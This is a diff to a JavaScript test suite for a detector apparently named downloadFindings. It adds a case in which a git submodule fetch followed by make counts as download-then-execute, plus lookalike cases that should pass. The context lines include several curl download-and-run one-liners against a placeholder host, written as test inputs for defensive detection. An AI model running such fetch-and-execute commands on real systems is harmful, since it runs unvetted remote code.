@@ -13,6 +13,7 @@ describe('downloadFindings', () => {
     ['curl -o x.sh https://a.example/x.sh; sh x.sh', 'open.download x.sh'],
     ['curl -O https://a.example/x.sh; bash ./x.sh', 'open.download ./x.sh'],
     ['curl https://a.example/x > y; sh y', 'open.download y'],
+    ['git submodule add https://a.example/x; make -C x', 'open.download make'],
     ['curl https://a.example/x &> y; sh y', 'open.download y'],
     ['curl -o x https://a.example/x; ./x', 'open.download ./x'],
     ['curl -o x https://a.example/x; python3 x', 'open.download x'],
@@ -141,5 +142,7 @@ describe('downloadFindings', () => {
     'curl -o .. https://a.example/y; cp z ..; sh z',
     'curl -o a/b:c https://a.example/y; sh c',
     'curl -o dif=z https://a.example/y; sh dz',
+    'svn submodule add https://a.example/x; make -C x',
+    'git log submodule add https://a.example/x; make -C x',
   ])('passes %s', (source) => expect(found(source)).toBe(''));
 });
